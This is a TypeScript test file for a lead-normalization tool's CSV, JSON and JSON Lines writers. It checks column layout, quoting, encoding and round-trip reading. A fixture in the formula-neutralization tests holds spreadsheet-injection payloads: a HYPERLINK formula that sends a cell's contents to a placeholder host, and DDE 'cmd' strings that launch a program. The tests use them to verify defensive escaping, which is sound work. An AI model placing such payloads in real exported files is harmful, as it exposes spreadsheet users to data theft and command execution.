import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openOutputFile } from '#shared/io/output-file.ts';
import { readRecords, type ReadItem } from '#shared/io/record-reader.ts';
import { createCsvWriter, createJsonLinesWriter, createRecordWriter, type CsvWriteOptions } from '#shared/io/record-writer.ts';
import { readCsvWithDuckDb } from './duckdb-csv.ts';

let directory: string;
let fileCounter = 0;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'normflow-writer-'));
});

afterAll(async () => {
  await rm(directory, { recursive: true, force: true });
});

function nextPath(extension: string): string {
  fileCounter += 1;
  return join(directory, `output-${fileCounter}.${extension}`);
}

async function writeCsvFile(records: Array<Record<string, unknown>>, options: CsvWriteOptions = {}): Promise<string> {
  const path = nextPath('csv');
  const output = await openOutputFile(path);
  const writer = createCsvWriter(output, options);
  for (const record of records) await writer.write(record);
  await writer.flush();
  await output.commit();
  return path;
}

/** The file as DuckDB reads it: rows as {column: text}, an empty cell as ''. */
async function readBackWithDuckDb(path: string, delimiter = ','): Promise<{ header: string[]; rows: Array<Record<string, string>> }> {
  const { columns, rows } = await readCsvWithDuckDb(path, delimiter);
  return { header: columns, rows: rows.map((row) => Object.fromEntries(columns.map((column, index) => [column, row[index] ?? '']))) };
}

async function readBack(path: string): Promise<ReadItem[]> {
  const items: ReadItem[] = [];
  for await (const item of readRecords(path, { format: 'csv', idFields: ['leadId'] })) items.push(item);
  return items;
}

const META = {
  nombres: { source: 'rules', changed: true, flags: [] },
  ciudad: { source: 'llm', changed: true, flags: ['ambiguous-city', 'llm-rejected'] },
};

const NORMALIZED_LEAD = {
  leadId: 'L-1',
  nombres: 'MARIA  DE LOS ANGELES',
  ciudad: 'cucuta, norte de santander',
  direccion: 'Cll 80 "bis" a #45-12\napto 301',
  edad: 31,
  normalizedData: { nombres: 'Maria de los Angeles', ciudad: 'San José de Cúcuta', ciudadDepartamento: 'Norte de Santander', ciudadCodigoDane: '54001' },
  normalizationMeta: META,
};

describe('createCsvWriter: a spreadsheet-friendly layout', () => {
  it('puts each normalized value right after its original (a city’s department and DANE code with it), then its flags', async () => {
    const path = await writeCsvFile([NORMALIZED_LEAD]);
    const { header, rows } = await readBackWithDuckDb(path);
    expect(header).toEqual([
      'leadId',
      'nombres',
      'normalizedData.nombres',
      'normalizationMeta.nombres.flags',
      'ciudad',
      'normalizedData.ciudad',
      'normalizedData.ciudadDepartamento',
      'normalizedData.ciudadCodigoDane',
      'normalizationMeta.ciudad.flags',
      'direccion',
      'edad',
      'normalizationMeta',
      '_extra',
    ]);
    expect(rows).toEqual([
      {
        leadId: 'L-1',
        nombres: 'MARIA  DE LOS ANGELES',
        'normalizedData.nombres': 'Maria de los Angeles',
        'normalizationMeta.nombres.flags': '',
        ciudad: 'cucuta, norte de santander',
        'normalizedData.ciudad': 'San José de Cúcuta',
        'normalizedData.ciudadDepartamento': 'Norte de Santander',
        'normalizedData.ciudadCodigoDane': '54001',
        'normalizationMeta.ciudad.flags': 'ambiguous-city llm-rejected',
        direccion: 'Cll 80 "bis" a #45-12\napto 301',
        edad: '31',
        normalizationMeta: JSON.stringify(META),
        _extra: '',
      },
    ]);
  });

  it('starts with a UTF-8 byte-order mark (so Excel reads the accents) and ends records with CRLF', async () => {
    const bytes = await readFile(await writeCsvFile([{ leadId: '1', ciudad: 'Bogotá' }]));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('leadId,ciudad,normalizationMeta,_extra\r\n1,Bogotá,,\r\n');
  });

  it('uses the columns it is given (a CSV input’s header), and writes the header even without a row', async () => {
    const path = await writeCsvFile([], { columns: { attributes: ['ID', 'Nombres'] } });
    expect((await readFile(path, 'utf8')).slice(1)).toBe('ID,Nombres,normalizationMeta,_extra\r\n');
    expect(await readFile(await writeCsvFile([]), 'utf8')).toBe('');
  });

  it('puts attributes and normalized values no column was made for into _extra, as JSON; reading back restores them', async () => {
    const records = [
      { leadId: '1', nombres: 'ana', normalizedData: { nombres: 'Ana' }, normalizationMeta: {} },
      { leadId: '2', nombres: 'luis', telefono: '300 123 4567', notas: 'llamar, "urgente"', normalizedData: { nombres: 'Luis', empresa: 'SENA' }, normalizationMeta: {} },
    ];
    const path = await writeCsvFile(records);
    const { header, rows } = await readBackWithDuckDb(path);
    expect(header).toEqual(['leadId', 'nombres', 'normalizedData.nombres', 'normalizationMeta.nombres.flags', 'normalizationMeta', '_extra']);
    expect(JSON.parse(rows[1]?._extra ?? '')).toEqual({ telefono: '300 123 4567', notas: 'llamar, "urgente"', 'normalizedData.empresa': 'SENA' });
    expect((await readBack(path)).map((item) => item.kind === 'record' && item.record)).toEqual([
      { leadId: '1', nombres: 'ana' },
      { leadId: '2', nombres: 'luis', telefono: '300 123 4567', notas: 'llamar, "urgente"' },
    ]);
  });

  it('writes null and missing values as empty cells and nested attributes as JSON (sets as lists, big integers as digits)', async () => {
    const path = await writeCsvFile([
      { leadId: '1', empresa: null, tags: new Set(['a', 'b']), extraInfo: { origen: 'web', n: 12345678901234567890n } },
      { leadId: '2', tags: [], extraInfo: null },
    ]);
    expect((await readBackWithDuckDb(path)).rows).toEqual([
      { leadId: '1', empresa: '', tags: '["a","b"]', extraInfo: '{"origen":"web","n":"12345678901234567890"}', normalizationMeta: '', _extra: '' },
      { leadId: '2', empresa: '', tags: '[]', extraInfo: '', normalizationMeta: '', _extra: '' },
    ]);
  });
});

describe('createCsvWriter: RFC 4180 and formula neutralization, read back by DuckDB', () => {
  const TRICKY = {
    lf: 'línea 1\nlínea 2',
    cr: 'línea 1\rlínea 2',
    crlf: 'línea 1\r\nlínea 2',
    comma: 'Pérez, Ana',
    quote: 'dijo "hola"',
    spaces: '  con espacios  ',
    semicolon: 'a;b|c',
  };
  const FORMULAS = {
    equals: '=HYPERLINK("http://x.example/?q="&A1,"clic")',
    plus: "+cmd|' /C calc'!A0",
    minus: '-2+3+cmd|\' /C calc\'!A0',
    at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    tab: '\t=1+1',
    cr: '\r=1+1',
    quoted: "'=1+1",
  };
  const NUMBERS = { negative: '-5', phone: '+573001234567', decimal: '-1,5', exponent: '1.5e-3' };

  it('quotes every value with a CR, an LF, the delimiter or a quote, so another reader sees the same rows', async () => {
    for (const delimiter of [',', ';', '\t'] as const) {
      const path = await writeCsvFile([{ leadId: '1', ...TRICKY }, { leadId: '2', ...TRICKY }], { delimiter });
      const { rows } = await readBackWithDuckDb(path, delimiter);
      expect(rows).toEqual([1, 2].map((id) => ({ leadId: String(id), ...TRICKY, normalizationMeta: '', _extra: '' })));
    }
  });

  it('neutralizes cells a spreadsheet would run (= + - @ tab CR first) with a leading \', leaves plain numbers alone', async () => {
    const path = await writeCsvFile([{ leadId: '1', ...FORMULAS, ...NUMBERS }]);
    const [row] = (await readBackWithDuckDb(path)).rows;
    expect(row).toEqual({
      leadId: '1',
      ...Object.fromEntries(Object.entries(FORMULAS).map(([key, value]) => [key, `'${value}`])),
      ...NUMBERS,
      normalizationMeta: '',
      _extra: '',
    });
  });

  it('--no-neutralize-formulas writes them as they are', async () => {
    const path = await writeCsvFile([{ leadId: '1', ...FORMULAS }], { neutralizeFormulas: false });
    expect((await readBackWithDuckDb(path)).rows[0]).toEqual({ leadId: '1', ...FORMULAS, normalizationMeta: '', _extra: '' });
  });

  it('reading a file normflow wrote gives back every original exactly, neutralized cells included (property)', async () => {
    const text = fc.string({ unit: fc.constantFrom('a', 'Ñ', ',', ';', '"', "'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '5') });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (values) => {
        const records = values.map(([nombres, nota], index) => ({ leadId: `L${index}`, nombres, nota }));
        const path = await writeCsvFile(records.map((record) => ({ ...record, normalizedData: { nombres: 'X' }, normalizationMeta: {} })));
        const back = (await readBack(path)).map((item) => (item.kind === 'record' ? item.record : item));
        expect(back).toEqual(records);
      }),
      { numRuns: 80 },
    );
  });
});

describe('createRecordWriter json: one JSON array, for the tools that import "JSON"', () => {
  it('writes a valid array (an empty one too) that normflow reads back record for record, with each record\'s line', async () => {
    for (const count of [0, 1, 3, 5_000]) {
      const path = nextPath('json');
      const output = await openOutputFile(path);
      const writer = createRecordWriter(output, 'json');
      const records = Array.from({ length: count }, (_, index) => ({ leadId: `L${index}`, nombres: `Ana, "la" [${index}]`, tags: new Set(['x']) }));
      for (const record of records) await writer.write(record);
      await writer.flush();
      await writer.flush();
      await output.commit();
      const text = await readFile(path, 'utf8');
      const expected = records.map((record) => ({ ...record, tags: ['x'] }));
      expect(JSON.parse(text)).toEqual(expected);
      const items: ReadItem[] = [];
      for await (const item of readRecords(path, { idFields: ['leadId'] })) items.push(item);
      expect(items.map((item) => (item.kind === 'record' ? [item.line, item.record] : item))).toEqual(expected.map((record, index) => [index + 2, record]));
    }
  });
});

describe('createJsonLinesWriter', () => {
  it('writes one JSON object per line, sets as lists and big integers as digits', async () => {
    const path = nextPath('jsonl');
    const output = await openOutputFile(path);
    const writer = createJsonLinesWriter(output);
    const records = [NORMALIZED_LEAD, { leadId: 'L-2', nota: 'línea 1\nlínea 2', normalizedData: {} }, { leadId: 'L-3' }];
    for (const record of records) await writer.write(record);
    await writer.write({ leadId: 'L-4', tags: new Set(['x']), big: 2n ** 64n });
    await writer.flush();
    await output.commit();
    const lines = (await readFile(path, 'utf8')).split('\n');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).map((line) => JSON.parse(line) as unknown)).toEqual([...records, { leadId: 'L-4', tags: ['x'], big: '18446744073709551616' }]);
  });

  it('finds sets, big integers and bytes at any depth (plain records skip the per-key conversion)', async () => {
    const path = nextPath('jsonl');
    const output = await openOutputFile(path);
    const writer = createJsonLinesWriter(output);
    await writer.write({ leadId: 'L-5', history: [{ at: 1, changes: { scans: [new Uint8Array([104, 105])] } }] });
    await writer.write({ leadId: 'L-6', nested: { deeper: [null, { n: 7n }] } });
    await writer.write({ leadId: 'L-7', nested: { deeper: [null, { n: 7, ok: true }] } });
    await writer.flush();
    await output.commit();
    expect((await readFile(path, 'utf8')).split('\n').slice(0, -1)).toEqual([
      '{"leadId":"L-5","history":[{"at":1,"changes":{"scans":["aGk="]}}]}',
      '{"leadId":"L-6","nested":{"deeper":[null,{"n":"7"}]}}',
      '{"leadId":"L-7","nested":{"deeper":[null,{"n":7,"ok":true}]}}',
    ]);
  });

  it('writes many records, waiting for the stream to drain; flush writes the last ones', async () => {
    const path = nextPath('jsonl');
    const output = await openOutputFile(path);
    const writer = createRecordWriter(output, 'jsonl');
    const records = Array.from({ length: 20_000 }, (_, index) => ({ leadId: index, payload: 'x'.repeat(50) }));
    for (const record of records) await writer.write(record);
    await writer.flush();
    await output.commit();
    const lines = (await readFile(path, 'utf8')).trimEnd().split('\n');
    expect(lines).toHaveLength(20_000);
    expect(JSON.parse(lines[19_999] ?? '')).toEqual(records[19_999]);
  });
});
